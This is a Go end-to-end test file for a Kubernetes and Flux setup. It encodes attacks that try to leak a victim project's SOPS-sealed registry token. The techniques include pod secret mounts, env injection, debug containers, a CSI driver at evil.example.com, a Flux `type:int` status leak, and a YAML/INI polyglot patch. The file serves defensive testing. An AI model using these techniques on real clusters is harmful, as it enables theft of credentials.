package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// allProjectsAttacks are those of somebody who may write every project: each
// goes through the victim's own project, whose key opens the victim's files.
func allProjectsAttacks() []attack {
	pod := func(id, what, message string, spec map[string]any) attack {
		return attack{
			id: id, writer: allProjects, what: what, by: podPolicy,
			commit: func(a scene) error { return patchPod(a, spec) },
			seen:   podsRefused(message), hit: evilPod,
		}
	}
	const mount, environment = "a pod may not mount it", "may not take it into their environment"
	fromKey := map[string]any{"name": "TOKEN", "valueFrom": map[string]any{
		"secretKeyRef": map[string]any{"name": "ghcr-secret", "key": ".dockerconfigjson"},
	}}
	container := func(name string, more map[string]any) []any {
		c := map[string]any{"name": name, "image": "busybox"}
		if name == "app" {
			delete(c, "image")
		}
		for key, value := range more {
			c[key] = value
		}
		return []any{c}
	}
	volume := func(more map[string]any) map[string]any {
		v := map[string]any{"name": "leak"}
		for key, value := range more {
			v[key] = value
		}
		return map[string]any{"volumes": []any{v}, "containers": container("app", map[string]any{
			"volumeMounts": []any{map[string]any{"name": "leak", "mountPath": "/leak"}},
		})}
	}
	return []attack{
		pod("pod-mounts", "a pod in alice's overlay mounts `ghcr-secret`", mount,
			volume(map[string]any{"secret": map[string]any{"secretName": "ghcr-secret"}})),
		pod("pod-projects", "… takes it into a projected volume", mount,
			volume(map[string]any{"projected": map[string]any{"sources": []any{map[string]any{"secret": map[string]any{"name": "ghcr-secret"}}}}})),
		pod("pod-csi", "… hands it to a CSI driver", mount,
			volume(map[string]any{"csi": map[string]any{"driver": "evil.example.com", "nodePublishSecretRef": map[string]any{"name": "ghcr-secret"}}})),
		pod("pod-env", "… takes it into a variable", environment,
			map[string]any{"containers": container("app", map[string]any{"env": []any{fromKey}})}),
		pod("pod-env-from", "… takes all of it into its environment", environment,
			map[string]any{"containers": container("app", map[string]any{"envFrom": []any{map[string]any{"secretRef": map[string]any{"name": "ghcr-secret"}}}})}),
		pod("pod-init", "… does so in an init container", environment,
			map[string]any{"initContainers": container("init", map[string]any{"env": []any{fromKey}})}),
		debugContainerAttack(),
		typeTrick(),
		restoredAttack(),
		renamedAttack(),
		generatedAttack(),
		iniAttack(),
	}
}

// debugContainerAttack needs no commit: whoever may debug pods tries it.
func debugContainerAttack() attack {
	try := func(ctx context.Context, a scene) error {
		var pods corev1.PodList
		if err := fleet.Client.List(ctx, &pods, client.InNamespace(a.namespace())); err != nil {
			return err
		}
		if len(pods.Items) == 0 {
			return fmt.Errorf("no pod in %s", a.namespace())
		}
		patch := []byte(`{"spec":{"ephemeralContainers":[{"name":"debug","image":"busybox","envFrom":[{"secretRef":{"name":"ghcr-secret"}}]}]}}`)
		return fleet.Client.SubResource("ephemeralcontainers").Patch(ctx, &pods.Items[0], client.RawPatch(types.StrategicMergePatchType, patch))
	}
	return attack{
		id: "pod-debug", writer: allProjects, what: "`kubectl debug` with it in the environment", by: podPolicy,
		seen: func(ctx context.Context, a scene) (string, error) {
			const message = "may not take it into their environment"
			if err := try(ctx, a); err == nil || !strings.Contains(err.Error(), message) {
				return "", fmt.Errorf("want a refusal with %q, got %w", message, err)
			}
			return "refused: … " + message + " …", nil
		},
		hit: try,
	}
}

// typeTrick makes Flux parse the token as a number and complain about it.
func typeTrick() attack {
	return attack{
		id: "type-int", writer: allProjects, by: noDefence,
		what:   "`type:int` on alice's ciphertext: Flux before 2.10 prints the value in the Kustomization's status",
		commit: func(a scene) error { return replaceIn(a.sealed(), "type:str]\nsops:", "type:int]\nsops:") },
		hit: func(ctx context.Context, a scene) error {
			ready, err := fleet.Settled(ctx, a.namespace(), a.commit)
			if err == nil && !holds([]byte(ready.Message), a.self.owner.token) {
				err = errors.New(ready.Message)
			}
			return err
		},
	}
}

// restoredAttack brings an earlier token back.
func restoredAttack() attack {
	var old []byte
	const oldToken = "token-that-was-replaced"
	return attack{
		id: "restored", writer: allProjects, by: noDefence, what: "an older sealed file of alice's, restored",
		prepare: func(t *testing.T, a scene) {
			path := "projects/" + a.self.id + "/overlays/dev/ghcr-secret.sops.yaml"
			berth(t, oldToken+"\n", "create", "project", a.self.id, "--password-stdin")
			text, err := fleet.Git(t.Context(), "show", "main:"+path)
			must(t, err)
			old = []byte(text + "\n")
			berth(t, a.self.owner.token+"\n", "create", "project", a.self.id, "--password-stdin")
		},
		commit: func(a scene) error { return os.WriteFile(a.sealed(), old, 0o600) },
		hit:    func(ctx context.Context, a scene) error { return tokenIn(ctx, a.namespace(), oldToken) },
	}
}

// renamedAttack gets past the pod policy, which knows one name.
func renamedAttack() attack {
	return attack{
		id: "renamed", writer: allProjects, by: noDefence,
		what: "alice's sealed values under another name in her overlay, mounted by a pod there",
		commit: func(a scene) error {
			if err := asConfigMap(a.sealed(), a.overlay()); err != nil {
				return err
			}
			return patchPod(a, map[string]any{
				"volumes": []any{map[string]any{"name": "leak", "configMap": map[string]any{"name": "leak"}}},
				"containers": []any{map[string]any{"name": "app", "volumeMounts": []any{
					map[string]any{"name": "leak", "mountPath": "/leak"},
				}}},
			})
		},
		hit: func(ctx context.Context, a scene) error {
			return errors.Join(leaked(ctx, a, ".dockerconfigjson"), evilPod(ctx, a))
		},
	}
}

// leaked wants the token in a ConfigMap of the attacker's.
func leaked(ctx context.Context, a scene, key string) error {
	var leak corev1.ConfigMap
	err := fleet.Client.Get(ctx, client.ObjectKey{Namespace: a.namespace(), Name: "leak"}, &leak)
	if err == nil && !holds([]byte(leak.Data[key]), a.self.owner.token) {
		err = errors.New("the ConfigMap does not hold the token")
	}
	return err
}

// generatedAttack does the same with Kustomize's generators.
func generatedAttack() attack {
	return attack{
		id: "generated", writer: allProjects, by: noDefence,
		what: "alice's sealed file through the generators of her own overlay, into a ConfigMap",
		commit: func(a scene) error {
			generator := leakFrom(scene{victim: a.self})
			return change(a.kustomization(), func(d document) {
				d.push("secretGenerator", generator)
				d.push("configMapGenerator", generator)
			})
		},
		hit: func(ctx context.Context, a scene) error { return leaked(ctx, a, "leak.yaml") },
	}
}

// iniAttack hides the ciphertext from readers: its patch is YAML to Kustomize and INI to
// Flux, for which lines that end in a backslash go on. What Flux decrypts is a value of
// the patch.
func iniAttack() attack {
	return attack{
		id: "ini", writer: allProjects, by: noDefence,
		what: "alice's sealed values in a patch that is YAML and INI at once, into a ConfigMap",
		commit: func(a scene) error {
			sealed, err := os.ReadFile(a.sealed())
			if err != nil {
				return err
			}
			if err := os.WriteFile(filepath.Join(a.overlay(), "leak.ini"), iniPatch(string(sealed)), 0o600); err != nil {
				return err
			}
			const leak = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: leak}\ndata: {t: none}\n"
			if err := os.WriteFile(filepath.Join(a.overlay(), "leak.yaml"), []byte(leak), 0o600); err != nil {
				return err
			}
			return change(a.kustomization(), func(d document) {
				d.push("resources", "leak.yaml")
				d.push("patches", map[string]any{"path": "leak.ini"})
				d.push("patches", map[string]any{
					"target": map[string]any{"kind": "ConfigMap", "name": "leak"},
					"patch":  `[{"op": "remove", "path": "/="}]`,
				})
			})
		},
		hit: func(ctx context.Context, a scene) error { return leaked(ctx, a, "t") },
	}
}

// iniPatch writes a sealed Secret as such a patch.
func iniPatch(sealed string) []byte {
	find := func(expression string) string {
		match := regexp.MustCompile(expression).FindStringSubmatch(sealed)
		if match == nil {
			panic("no " + expression + " in the sealed file")
		}
		return match[1]
	}
	join := strings.NewReplacer("ENC[", "ENC\\\n[", "AGE ENC", "AGE E\\\nNC")
	wrapped := strings.ReplaceAll(strings.TrimSpace(find(`enc: \|\n((?: {12}.*\n)+)`)), "\n"+strings.Repeat(" ", 12), `\n`) + `\n`
	return []byte("{ = : 0, apiVersion: v1, kind: ConfigMap, metadata: {name: leak}, data: {t: '\n" +
		"[data]\n.dockerconfigjson = " + join.Replace(find(`\.dockerconfigjson: (ENC\[.*\])`)) + "\n" +
		"[sops]\nage__list_0__map_enc = " + join.Replace(wrapped) + "\n" +
		"age__list_0__map_recipient = " + find(`recipient: (\S+)`) + "\n" +
		"encrypted_regex = ^data$\nlastmodified = " + find(`lastmodified: "(.*)"`) + "\n" +
		"mac = " + join.Replace(find(`mac: (ENC\[.*\])`)) + "\nversion = " + find(`version: (\S+)`) + "\n[end]\nx = '}}\n")
}
